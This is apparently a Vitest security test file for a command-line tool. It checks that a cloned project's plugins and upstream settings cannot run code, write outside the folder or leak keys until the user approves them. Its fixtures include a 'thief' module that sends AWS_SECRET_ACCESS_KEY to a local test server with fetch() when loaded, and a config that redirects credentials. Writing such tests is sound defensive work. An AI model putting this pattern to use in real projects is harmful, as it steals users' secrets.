/** A cloned folder that tries to run code, to send keys to another server, or to access files outside: harmless for every command. */
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { serve } from "@litfuse/kit/loopback"
import * as Effect from "effect/Effect"
import { afterEach, describe, expect, it, onTestFinished, vi } from "vitest"
import { run } from "../../src/app.ts"
import { commandsFor, everyCommand } from "../../src/everyCommand.ts"
import { leaves } from "../leaves.ts"
import { inFolder, listen } from "../terminal.ts"
import { tiny } from "../tiny.ts"
import { calls, plain } from "./calls.ts"

afterEach(() => void vi.unstubAllEnvs())

const commands = leaves(await everyCommand())
const wordsOf = (command: string): ReadonlyArray<string> => `${command} ${calls[command] ?? ""}`.trim().split(" ")

const key = "AKIA-s3cr3t"

/** A user who has approved nothing, with a key, and with a folder that the clone has no business in. */
const user = () => {
  const home = mkdtempSync(join(tmpdir(), "litfuse-victim-"))
  onTestFinished(() => rmSync(home, { recursive: true }))
  for (const [name, value] of Object.entries({
    XDG_CONFIG_HOME: join(home, "config"),
    LITFUSE_STATE: join(home, "state"),
    LITFUSE_DATA: "",
    LITFUSE_TRUST: "",
    LITFUSE_NO_PLUGINS: "",
    GITHUB_ACTIONS: "",
    OPENALEX_API_KEY: key,
    AWS_SECRET_ACCESS_KEY: key
  }))
    vi.stubEnv(name, value)
  mkdirSync(join(home, "outside"))
  return join(home, "outside")
}

const listening = async () => {
  const server = await serve((_, response) => response.writeHead(200, { "content-type": "application/json" }).end("{}"))
  onTestFinished(server.close)
  return server
}

const ran = async (words: ReadonlyArray<string>) => {
  const written = listen()
  const code = await Effect.runPromise(run(words))
  return { code, out: written.out(), err: written.err() }
}

/** A module that leaves a mark outside the clone, and sends a key away, as soon as it is loaded. */
const thief = (outside: string, origin: string): string => `import { writeFileSync } from "node:fs"
writeFileSync(${JSON.stringify(join(outside, "marker"))}, "was here")
await fetch(${JSON.stringify(origin)} + "/?key=" + process.env.AWS_SECRET_ACCESS_KEY)
export default { kind: "measure", id: "Stolen" }
`

/** A clone whose configuration names code: a file, a package that was committed, and a file in a folder above. */
const withCode = (outside: string, origin: string): Readonly<Record<string, string>> => ({
  ...tiny,
  ...plain,
  "litfuse.config.yaml": "plugins:\n  - ./thief.mjs\n  - acme\n",
  "thief.mjs": thief(outside, origin),
  "node_modules/acme/package.json": '{"name":"acme","version":"1.0.0","type":"module","exports":"./index.js"}',
  "node_modules/acme/index.js": thief(outside, origin)
})

/** A clone whose configuration sends a service elsewhere, with another variable as its key. */
const withUpstreams = (origin: string): Readonly<Record<string, string>> => ({
  ...tiny,
  ...plain,
  "litfuse.config.yaml": `upstreams:\n  openalex:\n    origin: ${origin}\n    credentials: { key: { env: AWS_SECRET_ACCESS_KEY } }\n`
})

/** Commands that work in a clone without its plugins, or first report what is missing. All others end with exit code 2 and a remedy. */
const needNone = new Set([
  "serve",
  "replay",
  "convert",
  "dedup",
  "find",
  "evidence",
  "extract",
  "query generate",
  "query codes",
  "source list",
  "source show",
  "bench list",
  "bench export",
  "bench site",
  "bench reproduce",
  "bench init",
  "bench mcp",
  "bench mcq score",
  "bench mcq generate",
  "bench merge",
  "graph show",
  "graph query",
  "graph export",
  "bench data list",
  "bench data check",
  "bench data fetch",
  "query translate",
  "query lint",
  "query explain",
  "query test",
  "plugin list",
  "plugin show",
  "plugin new",
  "project init",
  "project update",
  "project export",
  "project import",
  "judge pool",
  "judge list",
  "judge compare",
  ...["init", "status", "run", "chase", "test", "assign", "merge", "update", "check", "report", "publish"].map((name) => `review ${name}`),
  "judge show",
  "judge qrels",
  "runs pmids",
  "runs list",
  "runs show",
  "runs watch",
  "runs resume",
  "runs cancel",
  "runs prune",
  "schedule list",
  "schedule write",
  "schedule remove",
  "schedule due",
  "mcp tools",
  "plugin trust"
])

describe("a clone that names code to run", () => {
  it("is tried with every command", () => expect(Object.keys(calls).sort()).toEqual([...commands].sort()))

  it.each(commands)("runs none of it: %s", async (command) => {
    const [outside, server] = [user(), await listening()]
    inFolder(withCode(outside, server.origin))
    const { code, err } = await ran(wordsOf(command))
    expect([existsSync(join(outside, "marker")), server.seen]).toEqual([false, []])
    if (needNone.has(command)) return
    expect([code, err]).toEqual([
      2,
      expect.stringMatching(/litfuse\.config\.yaml: is not approved, .*`litfuse plugin trust`.*--no-plugins/)
    ])
  })

  it.each(commands)("runs none of it for help and completions: %s", async (command) => {
    const [outside, server] = [user(), await listening()]
    inFolder(withCode(outside, server.origin))
    await ran([...command.split(" "), "--help"])
    await commandsFor([...command.split(" "), "--completions", "bash"])
    expect([existsSync(join(outside, "marker")), server.seen]).toEqual([false, []])
  })

  it.each(["source list", "source show", "plugin list", "plugin show", "bench list"])(
    "is listed without it, and says so: %s",
    async (command) => {
      const [outside, server] = [user(), await listening()]
      inFolder(withCode(outside, server.origin))
      const { code, out, err } = await ran(wordsOf(command))
      expect([code, out.length > 50]).toEqual([0, true])
      expect(err).toMatch(/^litfuse(?: bench list)?: without the plugins of this project: litfuse\.config\.yaml: is not approved, /)
    }
  )

  it.each(["", "below/deep"])("runs none of it from below, and none that lies in a folder above: %s", async (below) => {
    const [outside, server] = [user(), await listening()]
    const folder = inFolder(withCode(outside, server.origin))
    mkdirSync(join(folder, "below/deep"), { recursive: true })
    process.chdir(join(folder, below))
    expect((await ran(["plugin", "check"])).code).toBe(2)
    expect(existsSync(join(outside, "marker"))).toBe(false)
  })

  it("runs what --no-plugins asks for, and what was approved: then, and only then, its code", async () => {
    const [outside, server] = [user(), await listening()]
    inFolder(withCode(outside, server.origin))
    expect(await ran(["fuse", "a.run", "b.run", "--out", "made.run", "--no-plugins"])).toMatchObject({ code: 0 })
    expect(existsSync(join(outside, "marker"))).toBe(false)
    const { err } = await ran(["plugin", "check"])
    const [, hash] = /--trust ([0-9a-f]{64})/.exec(err)!
    await ran(["plugin", "check", "--trust", hash!.replace(/^./, (digit) => (digit === "0" ? "1" : "0"))])
    expect([existsSync(join(outside, "marker")), server.seen]).toEqual([false, []])
    await ran(["plugin", "check", "--trust", hash!])
    expect([existsSync(join(outside, "marker")), server.seen.some(({ query }) => query.get("key") === key)]).toEqual([true, true])
  })

  it("is not approved once something that it loads has changed", async () => {
    const [outside, server] = [user(), await listening()]
    inFolder({
      ...withCode(outside, server.origin),
      "thief.mjs": 'import "./part.mjs"\nexport default []\n',
      "part.mjs": "",
      "litfuse.config.yaml": "plugins: [./thief.mjs]\n"
    })
    expect((await ran(["plugin", "trust"])).code).toBe(0)
    writeFileSync("part.mjs", thief(outside, server.origin))
    const { code, err } = await ran(["plugin", "check"])
    expect([code, err]).toEqual([2, expect.stringContaining("has changed since you approved it (changed part.mjs)")])
    expect(existsSync(join(outside, "marker"))).toBe(false)
  })
})

describe("a clone that redirects a service", () => {
  it.each(commands)("gets no request and no key: %s", async (command) => {
    const [, server] = [user(), await listening()]
    inFolder(withUpstreams(server.origin))
    // a command that asks the service anyway finds no server there
    vi.stubEnv("LITFUSE_UPSTREAM_OPENALEX", "http://127.0.0.1:1")
    const { code, out, err } = await ran(wordsOf(command))
    expect(server.seen).toEqual([])
    expect(out + err).not.toContain(key)
    if (code !== 0 && !needNone.has(command)) expect(err).toMatch(/litfuse\.config\.yaml:1: upstreams are not read from a project/)
  })
})
